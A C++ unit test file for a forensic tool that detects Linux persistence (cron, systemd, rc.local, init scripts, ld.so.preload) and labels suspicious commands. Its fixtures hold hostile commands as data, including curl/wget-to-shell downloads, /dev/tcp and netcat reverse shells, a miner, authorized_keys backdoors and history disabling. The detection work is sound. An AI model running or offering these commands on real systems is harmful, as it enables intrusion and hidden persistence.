#include "analyze/artifact/analyzers.h"
#include "analyze/artifact/persistence/command_signs.h"
#include "unit/analyze/memory_case.h"

#include <gmock/gmock.h>

using namespace kanshiki;
using test::MemoryCase;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;

namespace {

std::string ids(std::string_view command) {
    std::string text;
    for (const Sign& sign : signs_of(command)) text += (text.empty() ? "" : " ") + std::string(sign.id);
    return text;
}

const std::initializer_list<const Analyzer*> persistence{&inventory_analyzer, &cron_analyzer, &systemd_analyzer,
                                                         &startup_analyzer, &preload_analyzer};

} // namespace

TEST(CommandSigns, WhatSpeaksAgainstACommand) {
    const std::pair<const char*, const char*> rows[] = {
        {"/tmp/.x/evil", "temp-path hidden-path"},
        {"nohup /dev/shm/a >/dev/null 2>&1 &", "temp-path"},
        {"sh -c '/var/tmp/a -d'", "temp-path"},
        {"bash -c \"sh -c '/tmp/deep'\"", "temp-path"},
        {"cd /tmp && ./x", "temp-path"},
        {"python3 -u /tmp/a.py", "temp-path"},
        {"sudo -u nobody env A=b /tmp/a", "temp-path"},
        {"flock -n /tmp/lock /tmp/a", "temp-path"},
        {"[ -x /tmp/a ] && /tmp/a", "temp-path"},
        {"/usr/lib/.cache/kworker", "hidden-path"},
        {"/home/bob/.x/y", "hidden-path"},
        {"curl -fsSL http://192.0.2.1/u.sh | sh >/dev/null 2>&1", "download-run"},
        {"wget -qO- http://192.0.2.1/x | sudo bash -s -- -y", "download-run"},
        {"curl http://x | tee /var/x | python3 -", "download-run"},
        {"bash -c \"$(curl -fsSL http://x)\"", "download-run"},
        {"bash <(curl -s http://x)", "download-run"},
        {"eval `wget -qO- http://x`", "download-run"},
        {"echo aGk= | base64 -d | sh", "decode-run decodes"},
        {"sh -c \"$(echo aGk= | base64 --decode)\"", "decode-run decodes"},
        {"base64 -d /etc/x > /etc/y", "decodes"},
        {"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "reverse-shell"},
        {"nc -e /bin/sh 192.0.2.1 4444", "reverse-shell"},
        {"rm /x; mkfifo /x; cat /x | sh -i 2>&1 | nc 192.0.2.1 1 > /x", "reverse-shell"},
        {"python3 -c 'import socket,os'", "reverse-shell"},
        {"/opt/xmrig -o stratum+tcp://pool:1", "miner"},
        {"LD_PRELOAD=/lib/x.so /usr/sbin/sshd", "ld-preload"},
        {"echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "adds-key"},
        {"chattr +i /etc/passwd", "immutable"},
        {"export HISTFILE=/dev/null", "no-history"},
    };
    for (const auto& [command, expected] : rows) EXPECT_EQ(ids(command), expected) << command;
}

TEST(CommandSigns, OrdinaryCommands) {
    for (const char* command : {"", "rm -rf /tmp/x", "find /tmp -mtime +7 -delete", "tar czf /tmp/backup.tgz /home",
                                "cd / && run-parts --report /etc/cron.hourly",
                                "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
                                ". ~/.bashrc", "/home/bob/.local/bin/tool", "curl -o /var/x http://x",
                                "curl http://x | grep y", "flock -n /tmp/lock /usr/bin/a", "mktemp -d /tmp/foo.XXXX",
                                "echo '| sh' | cat", "wget http://x | sh /usr/bin/known.sh", "[ -d /tmp/.X11-unix ]"})
        EXPECT_EQ(ids(command), "") << command;
}

TEST(CommandSigns, HostileTextEnds) {
    for (const std::string& command :
         {std::string(1 << 20, '('), std::string(1 << 20, '`'), std::string(1 << 20, '|'), std::string(100000, '"'),
          std::string("$($($($("), std::string("'"), std::string("\\"), std::string("a\0/tmp/x", 8)})
        signs_of(command);
    std::string nested = "/tmp/x";
    for (int i = 0; i < 50; ++i) nested = "sh -c \"" + nested + "\"";
    signs_of(nested);
    std::string many; // what is not followed to its end is said
    for (int i = 0; i < 300; ++i) many += "; ";
    EXPECT_EQ(ids(many + "/tmp/x"), "too-long");
    EXPECT_EQ(ids(std::string(70000, 'x')), "too-long");
}

TEST(Cron, JobsListedAndSuspiciousOnesRaised) {
    MemoryCase files;
    files.add("/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
    files.add("/etc/cron.d/sync", "*/5 * * * * root curl -s http://192.0.2.1/u | sh\nnonsense\n");
    files.add("/var/spool/cron/crontabs/root", "# c\n@reboot /tmp/.x/evil\n", 0600);
    files.add("/spool/cron/alice", "@reboot /usr/bin/agent\n", 0600); // /var as its own volume
    files.add("/etc/cron.daily/clean", "#!/bin/sh\nrm -rf /tmp/a\n", 0755);
    files.add("/etc/cron.hourly/x", "#!/bin/sh\n\n/dev/shm/y\n", 0755);
    files.run(persistence);
    EXPECT_THAT(files.summary(),
                ElementsAre("cron.job info /etc/crontab:1@0", "cron.reboot-job low /spool/cron/alice:1@0",
                            "cron.suspicious-job critical /etc/cron.d/sync:1@0",
                            "cron.suspicious-job high /var/spool/cron/crontabs/root:2@4",
                            "cron.suspicious-script high /etc/cron.hourly/x:3@11"));
    ASSERT_EQ(files.uncovered.size(), 1u); // the line that does not parse is not lost
    EXPECT_EQ(files.uncovered[0].where, "line 2, byte 49");
    EXPECT_EQ(files.find("cron.suspicious-job")->attack, "T1053.003");
}

TEST(Cron, WritableProgramAndOddSettings) {
    MemoryCase files;
    files.add("/etc/cron.d/a", "LD_PRELOAD=/lib/x.so\n1 1 * * * root /opt/run.sh\n");
    files.add("/opt/run.sh", "#!/bin/sh\n", 0777);
    files.run(persistence);
    EXPECT_THAT(files.summary(), ElementsAre("cron.suspicious-job high /etc/cron.d/a:2@21",
                                             "cron.suspicious-setting high /etc/cron.d/a:1@0"));
}

TEST(Cron, DeletedTablesAreOneStepLowerAndReusedInodesSkipped) {
    MemoryCase files;
    auto& gone = files.add("/etc/cron.d/a", "@reboot root /tmp/x\n");
    gone.deleted = true;
    gone.info.allocated = false;
    files.add("/etc/cron.d/b", "@reboot root /tmp/y\n").deleted = true; // its inode is another file's now
    files.run(persistence);
    EXPECT_THAT(files.summary(), ElementsAre("cron.suspicious-job medium /etc/cron.d/a:1@0"));
    EXPECT_THAT(files.findings[0].title, HasSubstr("Deleted: "));
}

TEST(Systemd, UnitsByPlaceAndCommand) {
    MemoryCase files;
    files.add("/etc/systemd/system/helper.service", "[Unit]\n[Service]\nExecStart=-/usr/lib/.cache/kworker\n");
    files.add_symlink("/etc/systemd/system/multi-user.target.wants/helper.service",
                      "/etc/systemd/system/helper.service");
    files.add("/etc/systemd/system/board.service", "[Service]\nExecStart=/opt/board\n");
    files.add("/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nExecStartPre=/bin/sh -c 'curl http://x | sh'\n");
    files.add_symlink("/etc/systemd/system/odd.service", "/dev/shm/odd.service");
    files.add("/usr/lib/systemd/system/cron.service", "[Service]\nExecStart=/usr/sbin/cron -f\n");
    files.add("/usr/lib/systemd/system/fake.service", "[Service]\nExecStart=/usr/sbin/fake\n");
    files.add("/var/lib/dpkg/info/cron.list",
              "/.\n/lib/systemd/system/cron.service\n"); // the list names the unmerged path
    files.add("/home/bob/.config/systemd/user/x.service", "[Service]\nExecStart=/tmp/x\n");
    files.run(persistence);
    EXPECT_THAT(files.summary(),
                ElementsAre("systemd.local-unit low /etc/systemd/system/board.service:2@10",
                            "systemd.suspicious-link high /etc/systemd/system/odd.service",
                            "systemd.suspicious-unit critical /etc/systemd/system/ssh.service.d/x.conf:2@10",
                            "systemd.suspicious-unit high /etc/systemd/system/helper.service:3@17 "
                            "/etc/systemd/system/multi-user.target.wants/helper.service",
                            "systemd.suspicious-unit high /home/bob/.config/systemd/user/x.service:2@10",
                            "systemd.unowned-unit low /usr/lib/systemd/system/fake.service:2@10"));
}

TEST(Systemd, TimersCountAsTimers) {
    MemoryCase files;
    files.add("/etc/systemd/system/t.service", "[Service]\nExecStart=/tmp/t\n");
    files.add("/etc/systemd/system/t.timer", "[Timer]\nOnCalendar=hourly\n");
    files.run(persistence);
    EXPECT_EQ(files.find("systemd.suspicious-unit")->attack, "T1053.006");
    EXPECT_EQ(files.find("systemd.local-unit")->attack, "T1053.006");
}

TEST(Startup, ScriptsOfTheSystemAndOfLogins) {
    MemoryCase files;
    files.add("/etc/rc.local", "#!/bin/sh -e\n/tmp/.x/evil &\nexit 0\n", 0755);
    files.add("/etc/rc.d/rc.local", "#!/bin/sh\n/usr/bin/mine\n", 0644);
    files.add("/root/.bashrc", "export HISTFILE=/dev/null\n");
    files.add("/home/bob/.profile", ". ~/.bashrc\n");
    files.add("/etc/init.d/odd", "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n", 0755);
    files.run(persistence);
    EXPECT_THAT(files.summary(), ElementsAre("startup.rc-local low /etc/rc.d/rc.local:2@10",
                                             "startup.suspicious-init-script critical /etc/init.d/odd:2@10",
                                             "startup.suspicious-rc-local high /etc/rc.local:2@13",
                                             "startup.suspicious-shell-startup medium /root/.bashrc:1@0"));
}

TEST(Startup, AnEmptyRcLocalIsOrdinary) {
    MemoryCase files;
    files.add("/etc/rc.local", "#!/bin/sh -e\n# nothing\nexit 0\n", 0755);
    files.run(persistence);
    EXPECT_THAT(files.summary(), IsEmpty());
}

TEST(Preload, ListedLibraries) {
    MemoryCase files;
    files.add("/etc/ld.so.preload", "/usr/lib/.libproc.so.2\n/lib/gone.so\n/usr/lib/libeatmydata.so\n");
    files.add("/usr/lib/.libproc.so.2",
              "\x7f"
              "ELF",
              0755);
    files.add("/usr/lib/libeatmydata.so",
              "\x7f"
              "ELF",
              0755);
    files.add("/var/lib/dpkg/info/eatmydata.list", "/usr/lib/libeatmydata.so\n");
    files.run(persistence);
    EXPECT_THAT(files.summary(), ElementsAre("ld-preload.library critical /etc/ld.so.preload:1@0",
                                             "ld-preload.library critical /etc/ld.so.preload:2@23",
                                             "ld-preload.library medium /etc/ld.so.preload:3@36"));
    EXPECT_THAT(files.findings[0].why, HasSubstr("The library is on this volume"));
    EXPECT_THAT(files.findings[0].why, HasSubstr("hidden"));
    EXPECT_THAT(files.findings[1].why, HasSubstr("No shared library of this name was found"));
}

TEST(Preload, EmptyFileGivesNothing) {
    MemoryCase files;
    files.add("/etc/ld.so.preload", "# nothing\n\n");
    files.run(persistence);
    EXPECT_THAT(files.summary(), IsEmpty());
}
